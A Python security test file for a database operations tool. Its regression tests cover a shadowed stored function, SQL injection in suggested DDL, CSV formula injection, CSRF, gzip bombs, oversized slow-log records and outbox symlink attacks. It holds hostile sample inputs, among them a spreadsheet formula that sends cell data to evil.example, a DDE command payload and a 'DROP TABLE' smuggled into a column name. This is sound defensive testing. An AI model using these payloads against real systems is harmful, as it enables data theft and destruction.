"""Slow logs, settings files, report cells, a neighbouring page and a planted link, tried as the
hostile review did (items 3-6 and 8-13), on the real MariaDB, Redis and web view."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import gzip
import json
import os
import random
import shutil
import stat
import uuid
from email.message import EmailMessage
from urllib import parse, request

import pytest
from sqlalchemy import insert, select, text

from pelbiot_jobs.config import load_settings
from pelbiot_jobs.db.engine import engine_for
from pelbiot_jobs.db.ops_models import incidents, job_runs, query_digests
from pelbiot_jobs.lib.errors import ConfigError
from pelbiot_jobs.queries.analyze import analyze, explain
from tests.conftest import clean_environ, service_env
from tests.e2e.conftest import pj
from tests.helpers import mysql, open_incident
from tests.security.conftest import WEB_PASSWORD, WEB_USER, web_view, writing_function

# --- 3: a stored function bearing the name of a built-in the server lacks -----------------------


@pytest.fixture
def cbrt_routine(demo_app_db, ops_schema):
    """``CBRT`` (a MySQL built-in, not one of MariaDB 10.11) as a stored function of the app schema
    that writes a row each time it runs; the count of rows it wrote."""
    with writing_function(ops_schema["names"]["app"], "cbrt", "x INT", "x", "DETERMINISTIC") as count:
        yield count


SHADOWED = ["SELECT * FROM devices WHERE id = CBRT(8)", "SELECT * FROM (SELECT CBRT(8) AS t) AS d"]


def test_a_stored_function_named_like_an_allowed_builtin_never_runs(settings, cbrt_routine):
    from pelbiot_jobs.indexes.apply import measure

    with engine_for(settings.app_db_admin_url).begin() as conn:  # the oracle: it runs, and it writes
        conn.execute(text("SELECT CBRT(1)"))
    assert cbrt_routine() == 1
    for sql in SHADOWED:  # before: EXPLAIN evaluated it through the allow-list (CBRT is on it)
        # An account that may execute it sees it, and pelbiot-jobs refuses the text, on record.
        rows, flags = explain(engine_for(settings.app_db_admin_url), sql.encode(), None)
        assert flags == ["refused"] and "CBRT" in rows[0]["refused"] and "stored" in rows[0]["refused"], rows
        # The read account of the docs neither sees nor may execute it: the server refuses, nothing is stored.
        assert explain(engine_for(settings.app_db_url), sql.encode(), None) is None
        rows, latency, note = measure(engine_for(settings.app_db_admin_url), sql)
        assert rows is None and note.startswith("target query refused, not run") and "CBRT" in note
    assert cbrt_routine() == 1
    # A built-in the server has is explained as before.
    rows, flags = explain(engine_for(settings.app_db_url), b"SELECT * FROM devices WHERE id = ABS(8)", None)
    assert "refused" not in flags and rows


def test_the_read_account_of_the_docs_cannot_execute_a_routine(settings, cbrt_routine):
    """docs/security.md: the read-only account needs no EXECUTE, and without it no routine runs."""
    from sqlalchemy.exc import OperationalError

    with pytest.raises(OperationalError, match="execute command denied"):
        with engine_for(settings.app_db_url).connect() as conn:
            conn.execute(text("SELECT CBRT(1)"))
    assert cbrt_routine() == 0


# --- 4: advice a DBA pastes ---------------------------------------------------------------------


def test_advice_quotes_every_name_as_the_ddl_does_and_a_hostile_name_gets_none(settings, demo_app_db, ops_schema):
    from pelbiot_jobs.indexes.advisor import propose_for
    from pelbiot_jobs.indexes.live import read_schema

    schema = read_schema(engine_for(settings.app_db_admin_url))
    hostile = "SELECT * FROM load_profiles WHERE DATE(`c DATE; DROP TABLE devices; -- `) = '2026-01-01'"
    assert all("DROP TABLE" not in p.alternative for p in propose_for(hostile, schema))
    [proposal] = [p for p in propose_for("SELECT MAX(peak) FROM load_profiles WHERE DATE(created_at) = '2026-01-01'",
                                         schema) if p.alternative]
    mariadb = proposal.alternative.split("MariaDB: ", 1)[1]
    assert mariadb.startswith("ALTER TABLE `load_profiles` ADD COLUMN `created_at_date` DATE AS (DATE(`created_at`))")
    # Pasted as the DBA would (on a copy of the table), it does what it says and nothing else.
    conn = mysql(ops_schema["names"]["app"])
    with conn.cursor() as cur:
        cur.execute("DROP TABLE IF EXISTS pjt_lp_copy")
        cur.execute("CREATE TABLE pjt_lp_copy LIKE load_profiles")
        cur.execute(mariadb.replace("`load_profiles`", "`pjt_lp_copy`"))
        cur.execute("SHOW INDEX FROM pjt_lp_copy WHERE Key_name = 'idx_created_at_date'")
        assert cur.fetchall()
        cur.execute("DROP TABLE pjt_lp_copy")
    conn.close()


# --- 5: CSV cells a spreadsheet would run --------------------------------------------------------


def test_report_csvs_escape_formulas_whatever_the_dtype(ops_schema, redis_url, tmp_path):
    import pandas as pd

    from pelbiot_jobs.reports.service import export

    assert int(pd.__version__.split(".")[0]) >= 3  # the locked pandas, which gives text the `str` dtype
    day = dt.date(1990, 1, 1) + dt.timedelta(days=random.randrange(3000))  # a day no other test reports on
    start = dt.datetime.combine(day, dt.time(9))
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    command = "+1+cmd|' /C calc'!A0"
    with engine_for(ops_schema["ops"]).begin() as conn:
        conn.execute(insert(incidents).values(rule=link, host="@evil", severity="critical", status="resolved",
                                              opened_at=start, resolved_at=start + dt.timedelta(minutes=5), hold=0))
        conn.execute(insert(job_runs).values(task_id=f"csv-{uuid.uuid4().hex[:8]}", attempt=0, task="reports.export",
                                             trigger="cli", state="FAILURE", started_at=start, finished_at=start,
                                             duration_s=1.0, error=command))
    settings = load_settings(service_env(ops_schema, redis_url, tmp_path), cwd=tmp_path)
    export(settings, "daily", day, email=False)
    folder = tmp_path / "reports" / "daily" / day.isoformat()
    cells = {}
    for name in ("incidents.csv", "job_failures.csv"):
        with open(folder / name, newline="", encoding="utf-8") as fh:
            cells[name] = [c for row in csv.reader(fh) for c in row]
    assert "'" + link in cells["incidents.csv"] and "'@evil" in cells["incidents.csv"], cells["incidents.csv"]
    assert any(c.startswith("'" + command) for c in cells["job_failures.csv"]), cells["job_failures.csv"]
    for name, values in cells.items():
        for c in values:
            if c.startswith(("=", "+", "-", "@")):
                float(c)  # a negative number is the only cell that may start so


# --- 6: a page on another port of the same host -------------------------------------------------


def _post(url, data, headers=()):
    req = request.Request(url, data=parse.urlencode(data).encode(), headers=dict(headers))
    req.add_header("Authorization", "Basic " + base64.b64encode(f"{WEB_USER}:{WEB_PASSWORD}".encode()).decode())

    class Keep(request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None
    try:
        with request.build_opener(Keep()).open(req, timeout=30) as resp:
            return resp.status
    except request.HTTPError as exc:
        return exc.code


def test_a_planted_cookie_or_another_origin_cannot_post_a_form(ops_schema, tmp_path):
    """Before: a page on another port planted an `_xsrf` cookie (cookies ignore ports) and its
    cross-site form, carrying the same value, resolved an incident (303)."""
    from tests.integration.test_web import fetch

    with web_view(ops_schema, tmp_path) as url:
        incident = open_incident(ops_schema["ops"], f"xsrf-{uuid.uuid4().hex[:6]}")
        target = f"{url}/incidents/{incident}/resolve"
        planted = "2|00000000|" + "ab" * 16 + "|1700000000"
        assert _post(target, {"_xsrf": planted}, {"Cookie": f"_xsrf={planted}"}) == 403
        page = fetch(url + "/incidents", auth=(WEB_USER, WEB_PASSWORD))[2]
        token = page.split('name="_xsrf" value="', 1)[1].split('"', 1)[0]
        port = parse.urlsplit(url).port
        for headers in ({"Origin": f"http://127.0.0.1:{port + 1}"}, {"Origin": "null"},
                        {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"}):
            assert _post(target, {"_xsrf": token}, headers) == 403, headers
        with engine_for(ops_schema["ops"]).connect() as conn:
            status = conn.execute(select(incidents.c.status).where(incidents.c.id == incident)).scalar()
        assert status == "open"
        # The page's own form, from its own origin, lands.
        assert _post(target, {"_xsrf": token}, {"Origin": url, "Sec-Fetch-Site": "same-origin"}) == 303
        with engine_for(ops_schema["ops"]).connect() as conn:
            assert conn.execute(select(incidents.c.status).where(incidents.c.id == incident)).scalar() == "resolved"


# --- 8: *_FILE settings that are not a small text file -------------------------------------------


def test_a_secret_file_that_is_a_device_a_fifo_or_binary_is_one_line_without_its_content(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    binary = tmp_path / "binary"
    binary.write_bytes(b"\xffs3cr3t-b1nary\xfe")
    env = clean_environ()
    for path, why in (("/dev/zero", "a device"), (str(fifo), "a FIFO"), (str(binary), "not UTF-8 text"),
                      (str(tmp_path), "a directory")):
        with pytest.raises(ConfigError) as caught:
            load_settings({"PELBIOT_SMTP_PASSWORD_FILE": path}, cwd=tmp_path)
        assert why in str(caught.value) and "s3cr3t" not in str(caught.value) and "\\x" not in str(caught.value)
        done = pj("status", "--offline", env=env | {"PELBIOT_SMTP_PASSWORD_FILE": path}, cwd=tmp_path, timeout=60)
        assert done.returncode == 2 and done.stderr.count("\n") == 1 and why in done.stderr, done.stderr


# --- 9 and 10: slow logs that inflate or hold one giant record ----------------------------------

HEADER = ("# Time: 2026-11-29T10:00:00.000000Z\n# User@Host: api[api] @ localhost []\n"
          "# Query_time: 2.5  Lock_time: 0.0 Rows_sent: 1  Rows_examined: 1\n")


def event(sql: str, ts: int) -> str:
    return HEADER + f"SET timestamp={ts};\n{sql};\n"


def test_a_gzip_bomb_is_refused_early_in_one_line(tmp_path):
    for name, filler in (("zeros.gz", b"\0"), ("newlines.gz", b"\n")):
        bomb = tmp_path / name
        with gzip.open(bomb, "wb", compresslevel=9) as fh:
            fh.write(event("SELECT 1", 1795428000).encode())
            block = filler * (1 << 20)
            for _ in range(2048):  # 2 GiB inside, about 2 MB on disk
                fh.write(block)
        done = pj("slowlog", str(bomb), "--format", "json", env=clean_environ(), cwd=tmp_path, timeout=120)
        assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
        assert "not a slow log" in done.stderr and str(bomb) in done.stderr


def test_a_record_larger_than_a_read_is_skipped_and_the_digest_goes_on(settings, demo_app_db, tmp_path):
    """Before: the read position never passed a record larger than 256 MiB: every later run read it again."""
    log = tmp_path / "slow.log"
    with open(log, "wb") as fh:
        fh.write(event("SELECT id FROM devices WHERE id = 1", 1795428000).encode())
        fh.write((HEADER + "SET timestamp=1795428001;\nSELECT '").encode())
        fh.seek(260 << 20, os.SEEK_CUR)  # 260 MiB of one literal (a sparse file: nothing is written)
        fh.write(b"';\n")
        fh.write(event("SELECT name FROM devices WHERE id = 2", 1795428002).encode())
    ops, app = engine_for(settings.ops_db_url), engine_for(settings.app_db_url)
    now = dt.datetime(2026, 11, 29, 11, 0)
    runs = [analyze(app, ops, now, "file", str(log)) for _ in range(3)]
    assert [r["events"] for r in runs] == [1, 0, 1], runs
    assert [r["skipped_records"] for r in runs] == [0, 1, 0]
    with ops.connect() as conn:
        examples = set(conn.execute(select(query_digests.c.example).where(query_digests.c.source == "file")).scalars())
    assert any("devices WHERE id = 2" in e or "devices where id = ?" in e.lower() for e in examples), examples


def test_a_50_mb_line_and_a_truncated_last_event_are_one_line_on_stderr_and_the_rest_is_digested(tmp_path):
    """A 50 MB INSERT on one line in the middle of a log and its last event cut off, plain and
    gzipped: exit 0, one line on stderr naming what was skipped, every other event digested."""
    plain = tmp_path / "slow.log"
    with open(plain, "wb") as fh:
        for i in range(3):
            fh.write(event(f"SELECT id FROM devices WHERE id = {i}", 1795428000 + i).encode())
        fh.write((HEADER + "SET timestamp=1795428010;\nINSERT INTO logs VALUES ('").encode())
        fh.write(b"x" * (50 << 20))
        fh.write(b"');\n")
        for i in range(4):
            fh.write(event(f"SELECT name FROM devices WHERE id = {i}", 1795428020 + i).encode())
        fh.write((HEADER + "SET timestamp=1795428030;\nSELECT name FROM dev").encode())  # cut off
    packed = tmp_path / "slow.log.gz"
    with open(plain, "rb") as src, gzip.open(packed, "wb", compresslevel=1) as dst:
        shutil.copyfileobj(src, dst)
    for log in (plain, packed):
        done = pj("slowlog", str(log), "--format", "json", env=clean_environ(), cwd=tmp_path, timeout=120)
        assert done.returncode == 0, done.stderr
        assert done.stderr.count("\n") == 1 and "over 32 MB" in done.stderr, done.stderr
        digest = json.loads(done.stdout)
        counts = sorted(c["query_count"] for c in digest["classes"])
        # the cut-off event is read as far as it goes, a class of its own (as pt-query-digest reads it)
        assert digest["global"]["oversized_events"] == 1 and counts == [1, 3, 4], (log, counts, digest["global"])


# --- 11: checked SQL goes to the server as it was checked ---------------------------------------


def test_percent_signs_reach_the_server_as_written(settings, demo_app_db):
    from pelbiot_jobs.db.readonly import read_only, run_read
    from pelbiot_jobs.lib.sqlguard import check_read

    rows, flags = explain(engine_for(settings.app_db_url), b"SELECT * FROM devices WHERE name LIKE 'abc%'", None)
    assert rows and "refused" not in flags  # before: never explained (the driver %-formatted the text)
    with engine_for(settings.app_db_url).connect() as conn, read_only(conn):
        [row] = run_read(conn, check_read("SELECT '100%%' AS v, '5%' AS w, 'a:b' AS x"))
    assert (row["v"], row["w"], row["x"]) == ("100%%", "5%", "a:b")


# --- 12 and 13: the outbox and what others may read -------------------------------------------


def test_a_link_planted_in_the_outbox_is_never_followed(tmp_path):
    from pelbiot_jobs.lib.mail import deliver

    settings = load_settings({}, cwd=tmp_path)
    outbox = settings.var_dir / "outbox"
    outbox.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    name = f"alert-{uuid.uuid4().hex[:8]}"
    os.symlink(victim, outbox / f".{name}.eml.tmp")  # the temporary name the old code wrote through
    os.symlink(victim, outbox / f"{name}.eml")
    msg = EmailMessage()
    msg["Message-ID"] = f"<{name}@pelbiot-jobs>"  # alert mails' ids are predictable (one per effect)
    msg["Subject"] = "x"
    msg.set_content("the alert\n")
    where = deliver(settings, msg)
    assert victim.read_text() == "keep me\n"
    written = outbox / f"{name}.eml"
    assert where == f"outbox:{written}" and not written.is_symlink() and "the alert" in written.read_text()
    assert stat.S_IMODE(written.stat().st_mode) == 0o600 and stat.S_IMODE(outbox.stat().st_mode) == 0o700
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for f in outbox.iterdir():
        f.unlink()
    outbox.rmdir()
    os.symlink(elsewhere, outbox)
    with pytest.raises(ConfigError, match="is a symbolic link"):
        deliver(settings, msg)
    assert list(elsewhere.iterdir()) == []


def test_what_pelbiot_jobs_writes_is_for_its_user_only(tmp_path):
    """The embedded default from an empty folder (umask 022, as a login shell has): the ops DB, the
    outbox, the reports and their folders are 0600/0700; an existing var/ of mode 0755 is made 0700."""
    (tmp_path / "var").mkdir(mode=0o755)
    os.chmod(tmp_path / "var", 0o755)
    env = clean_environ()
    old = os.umask(0o022)
    try:
        done = pj("report", "daily", env=env, cwd=tmp_path, timeout=300)
    finally:
        os.umask(old)
    assert done.returncode == 0, done.stderr
    found = [p for p in [tmp_path / "var", tmp_path / "reports", *(tmp_path / "var").rglob("*"),
                         *(tmp_path / "reports").rglob("*")] if not p.is_socket()]
    assert any(p.name == "ops.db" for p in found) and any(p.suffix == ".csv" for p in found)
    for path in found:
        mode = stat.S_IMODE(path.lstat().st_mode)
        assert mode & 0o077 == 0, f"{path} is {mode:o}"
